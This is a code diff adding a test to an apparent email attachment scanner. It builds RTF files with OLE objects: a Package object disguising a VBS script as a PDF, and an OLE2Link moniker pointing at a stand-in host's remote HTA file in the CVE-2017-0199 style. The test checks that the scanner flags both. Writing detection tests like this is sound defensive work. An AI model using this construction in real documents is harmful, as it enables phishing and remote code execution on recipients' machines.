@@ -96,6 +96,19 @@ test("an RTF is read whatever it is typed (application/rtf, text/rtf, applicatio
   expect(archiveSigns(withAttachment(new TextEncoder().encode("{\\rtf1\\ansi Minutes.\\par}"), "minutes.rtf", "application/rtf"))).toEqual([]);
 });
 
+test("an RTF's Package object carrying a script is a program inside, as in an archive; an OLE2Link object fetches and runs its target (CVE-2017-0199)", () => {
+  const le32 = (n: number) => Buffer.from(Uint32Array.of(n).buffer);
+  const ole1 = (cls: string, native: Buffer) => Buffer.concat([le32(0x0501), le32(2), le32(cls.length + 1), Buffer.from(`${cls}\0`), le32(0), le32(0), le32(native.length), native]).toString("hex");
+  const doc = (hex: string) => new TextEncoder().encode(`{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata ${hex}}}}`);
+  const pkg = ole1("Package", Buffer.concat([Buffer.from([2, 0]), Buffer.from("Invoice_0412.pdf.vbs\0C:\\Temp\\Invoice_0412.pdf.vbs\0")]));
+  expect(archiveSigns(withAttachment(doc(pkg), "Invoice_0412.rtf", "application/rtf"))).toEqual(["ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE", "ATTACH_RTF_OBJECT"]);
+  const url = "http://203.0.113.5/doc.hta";
+  const moniker = Buffer.concat([Buffer.from("e0c9ea79f9bace118c8200aa004ba90b", "hex"), le32((url.length + 1) * 2), Buffer.from(`${url}\0`, "utf16le")]);
+  const link = withAttachment(doc(ole1("OLE2Link", Buffer.concat([Buffer.alloc(64), moniker]))), "order.doc", "application/msword");
+  expect(archiveSigns(link)).toEqual(["ATTACH_OFFICE_REMOTE", "ATTACH_OFFICE_REMOTE_CODE", "ATTACH_RTF_OBJECT"]);
+  expect(parseMessageSync(link, defaults().scan).uris).toContain(url);
+});
+
 test("the bytes decide: an archive named and typed as a PDF is an archive, and its program is seen", () => {
   expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/invoice-js.zip"), "scan.pdf", "application/pdf"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"]);
 });
